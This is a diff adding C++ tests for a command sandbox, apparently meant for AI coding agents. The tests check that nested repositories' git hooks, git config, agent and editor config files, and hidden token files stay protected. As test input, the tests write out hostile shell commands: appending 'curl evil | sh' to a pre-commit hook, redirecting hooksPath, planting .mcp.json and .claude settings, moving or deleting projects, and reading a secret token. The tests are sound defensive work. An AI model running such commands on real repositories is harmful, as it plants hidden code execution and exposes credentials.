@@ -258,5 +258,131 @@ TEST_F(HostRunFilesTest, ALinkedEntryRefusesTheRunBeforeAnythingRuns) {
   EXPECT_EQ(ReadFile(workspace_ / "ran.txt"), "ran\n");
 }
 
+// Projects nested below the workspace (a repository, a package with its own agent or editor
+// config) are protected as the workspace itself is: present entries and .git read-only, absent
+// entries not creatable, and neither the project nor a directory above it can be moved away
+// (out of a later command's search) or removed.
+TEST_F(HostRunFilesTest, NestedProjectsAreProtectedLikeTheWorkspace) {
+  Plant(workspace_ / "repo/.git/hooks/pre-commit", "#!/bin/sh\ntrue\n");
+  Plant(workspace_ / "repo/.git/config", "[core]\n");
+  Plant(workspace_ / "packages/web/.vscode/tasks.json", "{}\n");
+  Plant(workspace_ / "packages/web/index.js", "1\n");
+  auto session = SessionOrSkip(MakeConfig());
+  if (!session) return;
+  const std::string attack =
+      "echo 'curl evil | sh' >> repo/.git/hooks/pre-commit 2>/dev/null && echo 'wrote hook'; "
+      "echo '[core] hooksPath=/x' >> repo/.git/config 2>/dev/null && echo 'wrote config'; "
+      "echo '{}' > repo/.mcp.json 2>/dev/null && echo 'created repo/.mcp.json'; "
+      "mkdir -p repo/.claude 2>/dev/null; echo '{}' > repo/.claude/settings.json 2>/dev/null "
+      "&& echo 'created repo/.claude'; "
+      "echo pwned >> packages/web/.vscode/tasks.json 2>/dev/null && echo 'wrote tasks'; "
+      "echo pwned > packages/web/.envrc 2>/dev/null && echo 'created .envrc'; "
+      "mv repo repo.moved 2>/dev/null && echo 'moved repo'; "
+      "mv packages packages.moved 2>/dev/null && echo 'moved packages'; "
+      "rm -rf repo 2>/dev/null; test -d repo/.git || echo 'removed repo'; "
+      // The allowed twins: files beside the entries, new directories beside the projects.
+      "echo ok > repo/notes.txt && echo 2 > packages/web/index.js && mkdir -p packages/api/src "
+      "&& echo ok > packages/api/src/a.js && echo allowed";
+  for (int round = 0; round < 2; ++round) {
+    const RunResult result = Shell(*session, attack);
+    EXPECT_EQ(result.stdout_data.data, "allowed\n") << "round " << round << Describe(result);
+    EXPECT_EQ(ReadFile(workspace_ / "repo/.git/hooks/pre-commit"), "#!/bin/sh\ntrue\n");
+    EXPECT_EQ(ReadFile(workspace_ / "repo/.git/config"), "[core]\n");
+    EXPECT_EQ(ReadFile(workspace_ / "packages/web/.vscode/tasks.json"), "{}\n");
+    EXPECT_EQ(LeftAt(workspace_ / "repo"), "");
+    EXPECT_EQ(LeftAt(workspace_ / "packages/web"), ".vscode ");  // its own, nothing else
+    EXPECT_FALSE(Exists(workspace_ / "repo.moved"));
+    EXPECT_FALSE(Exists(workspace_ / "packages.moved"));
+    EXPECT_EQ(ReadFile(workspace_ / "repo/notes.txt"), "ok\n");
+    EXPECT_EQ(ReadFile(workspace_ / "packages/web/index.js"), "2\n");
+    EXPECT_EQ(ReadFile(workspace_ / "packages/api/src/a.js"), "ok\n");
+  }
+}
+
+// The search's depth is the user's: a project below it, or with the search off, is an ordinary
+// directory (the allowed twin of the test above).
+TEST_F(HostRunFilesTest, ANestedProjectBelowTheConfiguredDepthIsAnOrdinaryDirectory) {
+  Plant(workspace_ / "a/b/repo/.git/hooks/pre-commit", "true\n");
+  Plant(workspace_ / "repo/.git/hooks/pre-commit", "true\n");
+  Config config = MakeConfig();
+  config.sandbox.nested_project_depth = 2;
+  auto session = SessionOrSkip(config);
+  if (!session) return;
+  const std::string attack =
+      "echo pwned > a/b/repo/.git/hooks/pre-commit 2>/dev/null && echo 'wrote deep'; "
+      "echo pwned > repo/.git/hooks/pre-commit 2>/dev/null && echo 'wrote near'; true";
+  const RunResult result = Shell(*session, attack);
+  EXPECT_EQ(result.stdout_data.data, "wrote deep\n") << Describe(result);
+  EXPECT_EQ(ReadFile(workspace_ / "repo/.git/hooks/pre-commit"), "true\n");
+  config.sandbox.nested_project_depth = 0;
+  auto off = SessionOrSkip(config);
+  if (!off) return;
+  const RunResult unprotected = Shell(*off, attack);
+  EXPECT_EQ(unprotected.stdout_data.data, "wrote deep\nwrote near\n") << Describe(unprotected);
+  EXPECT_EQ(ReadFile(workspace_ / "repo/.git/hooks/pre-commit"), "pwned\n");
+}
+
+// A repository the host clones, or an agent config it writes, while the session lives is a
+// project for the next command (the run server and `cordon mcp` keep the search's result while
+// nothing that could change it happens).
+TEST_F(HostRunFilesTest, AProjectTheHostMakesBetweenCommandsIsProtectedInTheNext) {
+  auto session = SessionOrSkip(MakeConfig());
+  if (!session) return;
+  const std::string attack =
+      "echo pwned >> lib/.git/config 2>/dev/null && echo 'wrote lib/.git'; "
+      "echo '{}' > tools/x/.mcp.json 2>/dev/null && echo 'created tools/x/.mcp.json'; "
+      "echo ok > notes.txt && echo allowed";
+  const RunResult first = Shell(*session, "mkdir -p tools && echo ok > notes.txt");
+  EXPECT_EQ(first.status, RunStatus::kExited) << Describe(first);
+  Plant(workspace_ / "lib/.git/config", "[core]\n");
+  Plant(workspace_ / "tools/x/.vscode/settings.json", "{}\n");
+  for (int round = 0; round < 2; ++round) {
+    const RunResult result = Shell(*session, attack);
+    EXPECT_EQ(result.stdout_data.data, "allowed\n") << "round " << round << Describe(result);
+    EXPECT_EQ(ReadFile(workspace_ / "lib/.git/config"), "[core]\n");
+    EXPECT_FALSE(Exists(workspace_ / "tools/x/.mcp.json"));
+  }
+}
+
+// More directories to search than the bound refuses the run, naming the setting; nothing
+// runs. The twin: with the search off, the same workspace runs.
+TEST_F(HostRunFilesTest, AWorkspaceTooLargeToSearchRefusesTheRunNamingTheSetting) {
+  for (int i = 0; i < 10000; ++i) {
+    std::filesystem::create_directory(workspace_ / fmt::format("d{}", i));
+  }
+  auto session = SessionOrSkip(MakeConfig());
+  if (!session) return;
+  const RunResult result = Shell(*session, "echo ran > ran.txt");
+  EXPECT_EQ(result.status, RunStatus::kSetupFailed) << Describe(result);
+  EXPECT_NE(result.error.find("nested_project_depth"), std::string::npos) << Describe(result);
+  EXPECT_FALSE(Exists(workspace_ / "ran.txt"));
+  Config config = MakeConfig();
+  config.sandbox.nested_project_depth = 0;
+  auto off = SessionOrSkip(config);
+  if (!off) return;
+  const RunResult ran = Shell(*off, "echo ran > ran.txt");
+  EXPECT_EQ(ran.status, RunStatus::kExited) << Describe(ran);
+  EXPECT_EQ(ReadFile(workspace_ / "ran.txt"), "ran\n");
+}
+
+// A hidden path inside an entry pins the directories above it (so that the secret cannot be
+// moved out from under its mask); the pin must not undo the entry's read-only bind (with
+// bubblewrap a pin is a bind from the host, made before the read-only binds, not after).
+TEST_F(HostRunFilesTest, AHiddenPathInsideAnEntryLeavesTheEntryReadOnly) {
+  Plant(workspace_ / ".claude/settings.json", "{}\n");
+  Plant(workspace_ / ".claude/keys/token.json", "secret\n");
+  Config config = MakeConfig();
+  config.sandbox.hidden_paths = {workspace_ / ".claude/keys/token.json"};
+  auto session = SessionOrSkip(config);
+  if (!session) return;
+  const RunResult result = Shell(*session,
+                                 "cat .claude/keys/token.json 2>/dev/null; "
+                                 "echo pwned > .claude/settings.json 2>/dev/null && echo wrote; "
+                                 "echo ok > notes.txt && echo allowed");
+  EXPECT_EQ(result.stdout_data.data, "allowed\n") << Describe(result);
+  EXPECT_EQ(ReadFile(workspace_ / ".claude/settings.json"), "{}\n");
+  EXPECT_EQ(ReadFile(workspace_ / "notes.txt"), "ok\n");
+}
+
 }  // namespace
 }  // namespace cordon::kernel_test
